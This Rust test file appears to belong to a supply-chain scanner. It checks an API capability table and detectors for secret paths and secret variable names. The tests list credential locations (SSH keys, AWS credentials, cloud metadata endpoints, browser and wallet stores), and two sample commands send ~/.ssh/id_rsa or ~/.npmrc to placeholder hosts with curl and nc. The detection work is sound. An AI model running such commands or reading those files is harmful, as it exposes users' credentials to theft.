//! The table's files are well-formed and say what the documentation of the platforms says.

use std::collections::BTreeSet;

use super::{
    Capability, Global, On, Role, SecretClass, Sink, Source, api, assigned, builtin_module, global, known_package,
    member, read, secret_in_command, secret_path, secret_variable, secrets, table,
};

#[test]
fn entries_are_sorted_and_unique() {
    for (file, text) in [
        ("node.txt", read::NODE),
        ("web.txt", read::WEB),
        ("packages.txt", read::PACKAGES),
    ] {
        let paths: Vec<_> = read::lines(text).filter_map(|line| line.split(' ').next()).collect();
        for pair in paths.windows(2) {
            assert!(
                pair[0] < pair[1],
                "{file}: `{}` and `{}` are out of order or twice there",
                pair[0],
                pair[1]
            );
        }
    }
    for line in [read::NODE, read::WEB, read::PACKAGES]
        .into_iter()
        .flat_map(read::lines)
    {
        let path = line.split(' ').next().unwrap();
        assert!(path.len() <= table::JOINED, "`{path}` is longer than a path may be");
    }
    let paths = |text| {
        read::lines(text)
            .filter_map(|line| line.split(' ').next())
            .collect::<BTreeSet<_>>()
    };
    let (node, web, packages) = (paths(read::NODE), paths(read::WEB), paths(read::PACKAGES));
    for (one, other) in [(&node, &web), (&node, &packages), (&web, &packages)] {
        assert_eq!(
            one.intersection(other).collect::<Vec<_>>(),
            Vec::<&&str>::new(),
            "in two files"
        );
    }
}

#[test]
fn names_and_secrets_are_sorted_and_unique() {
    let mut seen = BTreeSet::new();
    let group = |kind: &str| match kind {
        "scheme" => "module".to_owned(),
        "object" | "root" => "harmless".to_owned(),
        "!" => "=".to_owned(),
        other => other.to_owned(),
    };
    for line in read::lines(read::NAMES).chain(read::lines(secrets::VARIABLES)) {
        let (kind, names) = line.split_once(' ').unwrap();
        let names: Vec<_> = names.split(' ').collect();
        assert!(names.is_sorted(), "not sorted: `{line}`");
        for name in names {
            let bare = name.split('=').next().unwrap();
            assert!(seen.insert((group(kind), bare)), "`{bare}` is listed twice");
        }
    }
    let paths: Vec<_> = read::lines(secrets::PATHS).collect();
    for pair in paths.windows(2) {
        assert!(
            pair[0] < pair[1],
            "secrets.txt: `{}` and `{}` are out of order or twice there",
            pair[0],
            pair[1]
        );
    }
}

#[test]
fn every_line_is_understood() {
    // The parser asserts it; a fresh read, since the shared table may have been read by another test already.
    read::Reader::read();
    assert!(secret_path("~/.npmrc").is_some());
}

#[test]
fn aliases_and_results_lead_somewhere() {
    for text in [read::NODE, read::WEB, read::PACKAGES] {
        for line in read::lines(text) {
            let Some((from, target)) = line.split_once(" = ") else {
                continue;
            };
            let known = api(target).is_some()
                || assigned(target).is_some()
                || api(&format!("{target}.x")).is_some()
                || global(target).is_some()
                || target.ends_with('#');
            assert!(known, "`{from}` is an alias of `{target}`, of which nothing is known");
            if global(target) == Some(Global::GlobalObject) {
                continue;
            }
            assert_eq!(
                member(target, "x"),
                format!("{target}{}x", if target.ends_with('#') { "" } else { "." })
            );
        }
    }
}

#[test]
fn names_of_capabilities_are_those_of_the_report() {
    for capability in Capability::ALL {
        assert_eq!(serde_json::to_value(capability).unwrap(), capability.name());
    }
    assert!(Capability::ALL.is_sorted());
    assert_eq!(Capability::ALL.len(), BTreeSet::from(Capability::ALL).len());
}

#[test]
fn spot_checks() {
    const READ: On = On::Read;
    const CALL: On = On::Call;
    const WRITE: On = On::Write;
    let cases = [
        ("fs.readFile", "fs-read", CALL, Some(Source::File), None),
        ("fs.promises.readFile", "fs-read", CALL, Some(Source::File), None),
        ("fs/promises.readFile", "fs-read", CALL, Some(Source::File), None),
        ("fs.existsSync", "fs-read", CALL, None, None),
        ("fs.readdir", "fs-read", CALL, None, None),
        ("fs.writeFileSync", "fs-write", CALL, None, Some(Sink::FileWrite)),
        ("fs.createWriteStream", "fs-write", CALL, None, None),
        ("fs.open", "fs-read,fs-write", CALL, None, None),
        ("fs.copyFileSync", "fs-read,fs-write", CALL, None, None),
        ("fs.unlink", "fs-write", CALL, None, None),
        ("fs.close", "", CALL, None, None),
        ("fs.somethingNew", "fs-read,fs-write", CALL, None, None),
        ("fs.FileHandle#readFile", "fs-read", CALL, Some(Source::File), None),
        (
            "child_process.exec",
            "process-exec",
            CALL,
            Some(Source::Exec),
            Some(Sink::Exec),
        ),
        ("child_process.fork", "process-exec", CALL, None, Some(Sink::Exec)),
        (
            "child_process.ChildProcess#stdout.on",
            "",
            READ,
            Some(Source::Exec),
            None,
        ),
        (
            "http.request",
            "network",
            CALL,
            Some(Source::Network),
            Some(Sink::Network),
        ),
        ("https.get", "network", CALL, Some(Source::Network), Some(Sink::Network)),
        ("http.Agent", "", CALL, None, None),
        ("http.ClientRequest#write", "network", CALL, None, Some(Sink::Network)),
        (
            "_http_client.request",
            "network",
            CALL,
            Some(Source::Network),
            Some(Sink::Network),
        ),
        ("net.isIP", "", CALL, None, None),
        ("net.connect", "network", CALL, Some(Source::Network), Some(Sink::Dns)),
        ("net.Socket#end", "network", CALL, None, Some(Sink::Network)),
        ("dgram.Socket#send", "network", CALL, None, Some(Sink::Network)),
        ("dns.resolveTxt", "dns", CALL, Some(Source::Network), Some(Sink::Dns)),
        (
            "dns.promises.lookup",
            "dns",
            CALL,
            Some(Source::Network),
            Some(Sink::Dns),
        ),
        ("os.hostname", "system-info", CALL, Some(Source::System), None),
        ("os.release", "system-info", CALL, None, None),
        ("os.platform", "", CALL, None, None),
        ("os.EOL", "", CALL, None, None),
        ("process.env", "env", READ, Some(Source::Environment), None),
        ("process.env.NPM_TOKEN", "env", READ, Some(Source::Environment), None),
        ("process.exit", "process-control", CALL, None, None),
        ("process.binding", "process-control", CALL, None, None),
        ("process.dlopen", "native", CALL, None, None),
        ("process.cwd", "", CALL, None, None),
        ("process.platform", "", CALL, None, None),
        ("process.stdin.on", "", READ, Some(Source::Input), None),
        (
            "process.report.getReport",
            "env,system-info",
            CALL,
            Some(Source::System),
            None,
        ),
        ("module.register", "global-mutation", CALL, None, None),
        ("module#_compile", "dynamic-code", CALL, None, Some(Sink::Code)),
        ("vm.runInNewContext", "dynamic-code", CALL, None, Some(Sink::Code)),
        ("vm.isContext", "", CALL, None, None),
        ("worker_threads.Worker", "worker", CALL, None, Some(Sink::Exec)),
        ("inspector.open", "process-control", CALL, None, None),
        ("v8.setFlagsFromString", "process-control", CALL, None, None),
        ("v8.deserialize", "", CALL, None, None),
        ("crypto.randomBytes", "crypto", CALL, None, None),
        ("crypto.subtle.encrypt", "crypto", CALL, None, None),
        ("sqlite.DatabaseSync", "fs-read,fs-write", CALL, None, None),
        ("zlib.gunzipSync", "", CALL, None, None),
        ("path.posix.join", "", CALL, None, None),
        ("fetch", "network", CALL, Some(Source::Network), Some(Sink::Network)),
        (
            "globalThis.fetch",
            "network",
            CALL,
            Some(Source::Network),
            Some(Sink::Network),
        ),
        ("Response#json", "", CALL, Some(Source::Network), None),
        ("XMLHttpRequest#send", "network", CALL, None, Some(Sink::Network)),
        ("WebSocket", "network", CALL, None, None),
        ("navigator.sendBeacon", "network", CALL, None, Some(Sink::Network)),
        ("navigator.userAgent", "", CALL, None, None),
        (
            "navigator.clipboard.readText",
            "clipboard",
            CALL,
            Some(Source::Clipboard),
            None,
        ),
        (
            "navigator.mediaDevices.getUserMedia",
            "device",
            CALL,
            Some(Source::Input),
            None,
        ),
        ("document.cookie", "storage", READ, Some(Source::Storage), None),
        ("document.title", "dom", READ, None, None),
        ("localStorage.token", "storage", READ, Some(Source::Storage), None),
        ("eval", "dynamic-code", CALL, None, Some(Sink::Code)),
        ("Function", "dynamic-code", CALL, None, Some(Sink::Code)),
        ("WebAssembly.instantiate", "wasm", CALL, None, None),
        ("WebAssembly.Memory", "", CALL, None, None),
        ("ethereum.request", "wallet", CALL, None, None),
        ("importScripts", "dynamic-code,network", CALL, None, Some(Sink::Code)),
        ("Element#src", "dom,network", WRITE, None, Some(Sink::Network)),
        ("chrome.cookies.getAll", "storage", CALL, Some(Source::Storage), None),
        ("Deno.readTextFile", "fs-read", CALL, Some(Source::File), None),
        ("Deno.env.get", "env", CALL, Some(Source::Environment), None),
        ("Bun.spawn", "process-exec", CALL, Some(Source::Exec), Some(Sink::Exec)),
        (
            "axios.post",
            "network",
            CALL,
            Some(Source::Network),
            Some(Sink::Network),
        ),
        ("axios.isAxiosError", "", CALL, None, None),
        ("fs-extra.readFile", "fs-read", CALL, Some(Source::File), None),
        ("fs-extra.outputFile", "fs-write", CALL, None, Some(Sink::FileWrite)),
        (
            "cross-spawn.sync",
            "process-exec",
            CALL,
            Some(Source::Exec),
            Some(Sink::Exec),
        ),
        ("npm:open", "process-exec", CALL, None, None),
    ];
    for (path, capabilities, on, source, sink) in cases {
        let api = api(path).unwrap_or_else(|| panic!("`{path}` is not known"));
        let names: Vec<_> = api.capabilities.iter().map(|capability| capability.name()).collect();
        assert_eq!(
            (names.join(",").as_str(), api.on, api.source, api.sink),
            (capabilities, on, source, sink),
            "`{path}`, by the entry `{}`",
            api.path
        );
    }
}

#[test]
fn what_is_not_listed_has_no_power() {
    for path in [
        "fs.readFile.length",
        "process.versions.node.split",
        "process.argv.slice",
        "net.Socket#unref",
        "http.ClientRequest#setTimeout",
        "Math.floor",
        "lodash.map",
        "globalThis.fs.readFile",
        "globalThis",
        "",
        ".",
        "#",
        "a..b",
    ] {
        assert!(api(path).is_none(), "`{path}` has {:?}", api(path));
    }
}

#[test]
fn arguments_and_results() {
    assert_eq!(
        api("child_process.spawn").unwrap().arguments,
        [Role::Command, Role::Argv, Role::Options]
    );
    assert_eq!(api("fs.writeFile").unwrap().arguments[..2], [Role::Path, Role::Data]);
    assert_eq!(api("setTimeout").unwrap().arguments, [Role::TimerCode]);
    assert_eq!(api("dns.resolve4").unwrap().arguments[0], Role::Name);
    assert_eq!(api("http.request").unwrap().returns, Some("http.ClientRequest#"));
    assert_eq!(api("fetch").unwrap().returns, Some("Response#"));
    assert_eq!(api("axios.create").unwrap().returns, Some("axios"));
}

#[test]
fn assignments() {
    let cases = [
        ("location", Some("network")),
        ("location.href", Some("network")),
        ("window.location.href", Some("network")),
        ("location.hash", Some("dom")),
        ("document.cookie", Some("storage")),
        ("document.title", Some("dom")),
        ("document.body.innerHTML", Some("dom")),
        ("localStorage.token", Some("storage")),
        ("process.env.PATH", Some("env")),
        ("process.exitCode", None),
        ("process.stdout.write", Some("global-mutation")),
        ("module._load", Some("global-mutation")),
        ("module._extensions..js", Some("global-mutation")),
        ("module#_compile", Some("global-mutation")),
        ("fs.promises.readFile", Some("global-mutation")),
        ("console.log", Some("global-mutation")),
        ("JSON.parse", Some("global-mutation")),
        ("fetch", Some("global-mutation")),
        ("XMLHttpRequest#open", Some("global-mutation")),
        ("XMLHttpRequest#onload", None),
        ("Element#innerHTML", Some("dom")),
        ("require.cache.x", Some("global-mutation")),
        ("lodash.map", None),
    ];
    for (path, expected) in cases {
        let found = assigned(path).and_then(|api| api.capabilities.iter().map(|c| c.name()).next_back());
        assert_eq!(found, expected, "`{path} = …`");
        assert!(assigned(path).is_none_or(|api| api.on == On::Write));
    }
}

#[test]
fn modules_and_packages() {
    for (specifier, path) in [
        ("fs", Some("fs")),
        ("node:fs", Some("fs")),
        ("node:fs/promises", Some("fs.promises")),
        ("path/posix", Some("path")),
        ("sys", Some("util")),
        ("_stream_readable", Some("stream.Readable")),
        ("node:sqlite", Some("sqlite")),
        ("sqlite", None),
        ("test", None),
        ("node:nothing", None),
        ("node:node:fs", None),
        ("Buffer", None),
        ("axios", None),
        ("fs/", None),
    ] {
        assert_eq!(builtin_module(specifier), path, "`{specifier}`");
    }
    for (name, path) in [
        ("axios", Some("axios")),
        ("graceful-fs", Some("fs")),
        ("fs-extra", Some("fs-extra")),
        ("open", Some("npm:open")),
        ("socket.io-client", Some("socket.io-client")),
        ("electron", Some("electron")),
        ("electron.shell", None),
        ("fetch", None),
        ("fs", None),
        ("lodash", None),
    ] {
        assert_eq!(known_package(name), path, "`{name}`");
    }
}

#[test]
fn packages_do_not_share_a_path_with_globals_or_modules() {
    for line in read::lines(read::PACKAGES) {
        let path = line.split(' ').next().unwrap();
        let root = path.split(['.', '#']).next().unwrap();
        assert_eq!(global(root), None, "`{path}`: write `npm:{root}`");
        assert_eq!(builtin_module(root), None, "`{path}`: a module of Node's");
    }
}

#[test]
fn members() {
    for (path, key, expected) in [
        ("child_process", "default", "child_process"),
        ("child_process", "exec", "child_process.exec"),
        ("fs", "module.exports", "fs"),
        ("fs", "promises", "fs.promises"),
        ("fs/promises", "readFile", "fs.promises.readFile"),
        ("fs-extra", "readFile", "fs.readFile"),
        ("fs-extra", "copy", "fs-extra.copy"),
        ("follow-redirects", "https", "https"),
        ("globalThis", "fetch", "fetch"),
        ("window", "self", "self"),
        ("window", "anything", "globalThis.anything"),
        ("global", "fs", "globalThis.fs"),
        ("globalThis", "process", "process"),
        ("document", "defaultView", "window"),
        ("net.Socket", "prototype", "net.Socket#"),
        ("net.Socket#", "write", "net.Socket#write"),
        ("net", "Stream", "net.Socket"),
        ("http.ClientRequest#", "socket", "net.Socket#"),
        ("module", "Module", "module"),
        ("buffer", "Buffer", "Buffer"),
        ("process", "env", "process.env"),
        ("process.env", "HOME", "process.env.HOME"),
        ("axios", "default", "axios"),
        ("axios.interceptors", "default", "axios.interceptors.default"),
    ] {
        assert_eq!(member(path, key), expected, "`{path}` + `{key}`");
    }
    let long = "x".repeat(500);
    assert_eq!(member("process.env", &long), format!("process.env.{long}"));
}

#[test]
fn globals() {
    for name in [
        "Array",
        "Promise",
        "Math",
        "URL",
        "AbortController",
        "console",
        "structuredClone",
        "HTMLElement",
    ] {
        assert_eq!(global(name), Some(Global::Harmless), "`{name}`");
    }
    for name in ["globalThis", "window", "self", "global", "frames", "parent", "top"] {
        assert_eq!(global(name), Some(Global::GlobalObject), "`{name}`");
    }
    for (name, path) in [
        ("fetch", "fetch"),
        ("process", "process"),
        ("browser", "chrome"),
        ("Deno", "Deno"),
        ("setTimeout", "setTimeout"),
        ("ethereum", "ethereum"),
        ("ActiveXObject", "ActiveXObject"),
    ] {
        assert_eq!(global(name), Some(Global::Powerful(path)), "`{name}`");
    }
    for name in ["fs", "jQuery", "describe", "sqlite", "axios", ""] {
        assert_eq!(global(name), None, "`{name}`");
    }
}

#[test]
fn secret_paths() {
    for (path, class) in [
        (".npmrc", SecretClass::Npm),
        ("/home/me/.npmrc", SecretClass::Npm),
        ("C:\\Users\\me\\.npmrc", SecretClass::Npm),
        ("/.aws/credentials", SecretClass::Cloud),
        ("~/.ssh/id_rsa", SecretClass::Ssh),
        ("~/.ssh", SecretClass::Ssh),
        (".ssh/id_something", SecretClass::Ssh),
        ("/id_ed25519", SecretClass::Ssh),
        ("/proc/self/environ", SecretClass::System),
        ("/etc/shadow", SecretClass::System),
        ("../../../etc/passwd", SecretClass::System),
        ("http://169.254.169.254/latest/meta-data/", SecretClass::Cloud),
        (
            "http://metadata.google.internal/computeMetadata/v1/",
            SecretClass::Cloud,
        ),
        ("169.254.169.254", SecretClass::Cloud),
        (".env", SecretClass::EnvFile),
        ("config/.env.production", SecretClass::EnvFile),
        (".git-credentials", SecretClass::Git),
        ("/.bash_history", SecretClass::ShellHistory),
        ("\\Google\\Chrome\\User Data\\Default\\Login Data", SecretClass::Browser),
        (
            "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
            SecretClass::Wallet,
        ),
        ("\\discord\\Local Storage\\leveldb", SecretClass::Chat),
        ("Library/Application Support/discord", SecretClass::Chat),
        ("Library/Keychains/login.keychain-db", SecretClass::PasswordManager),
        ("vault.KDBX", SecretClass::PasswordManager),
        ("wallet.dat", SecretClass::Wallet),
        (".config/solana/id.json", SecretClass::Wallet),
        (".claude/settings.json", SecretClass::Agent),
    ] {
        assert_eq!(secret_path(path).map(|secret| secret.class), Some(class), "`{path}`");
    }
    for path in [
        "",
        "/",
        "docs/npmrc.md",
        ".environment",
        ".env.example",
        "app/.env.sample",
        ".npmrc.md",
        "npmrc",
        "environ",
        "proc/environ",
        "src/commands/discord/index.js",
        "/etc/passwd.ts",
        "my.ssh/id",
        "lib/credentials",
        "169.254.169.2",
        "signal/index.js",
    ] {
        assert_eq!(secret_path(path), None, "`{path}`");
    }
    assert_eq!(secret_path("~/.aws/credentials").unwrap().what, "AWS credentials");
    assert_eq!(
        secret_in_command("curl -F 'f=@/root/.ssh/id_rsa' x").unwrap().class,
        SecretClass::Ssh
    );
    assert_eq!(
        secret_in_command("cat $HOME/.npmrc|nc a 1").unwrap().class,
        SecretClass::Npm
    );
    assert_eq!(secret_in_command("node --env-file build.js"), None);
}

#[test]
fn secret_variables() {
    for name in [
        "NPM_TOKEN",
        "npm_token",
        "TOKEN",
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_ACCESS_KEY_ID",
        "STRIPE_API_KEY",
        "DB_PASSWORD",
        "DATABASE_URL",
        "PRIVATE_KEY",
        "MY_APP_SECRET",
        "npm_config_//host.invalid/:_authToken",
    ] {
        assert!(secret_variable(name), "`{name}`");
    }
    for name in [
        "",
        "HOME",
        "PATH",
        "PWD",
        "MONKEY",
        "KEYBOARD",
        "TOKENIZER",
        "FORCE_COLOR",
        "NODE_ENV",
        "npm_config_user_agent",
        "npm_package_config_token",
        "COMPASS",
        "VAPID_PUBLIC_KEY",
        "SECRETARY",
        "PRIMARY_KEY",
        "é_TOKEN",
    ] {
        assert!(!secret_variable(name), "`{name}`");
    }
}

#[test]
fn long_paths_are_cut_and_cheap() {
    let mut path = member("process", "env");
    for _ in 0..100_000 {
        path = member(&path, "deeper");
    }
    assert!(path.len() < 300, "{} bytes", path.len());
    assert_eq!(api(&path).unwrap().path, "process.env");
    let mut path = member("fs", "readFile");
    for _ in 0..100_000 {
        path = member(&path, "deeper");
    }
    assert!(api(&path).is_none());
    for endless in ["window.", "fs.", "document.defaultView.", "a#", "fs-extra.", "."] {
        let path = endless.repeat(20_000);
        assert!(api(&path).is_none_or(|api| api.on != On::Write) && path.len() > 1);
        assigned(&path);
    }
}
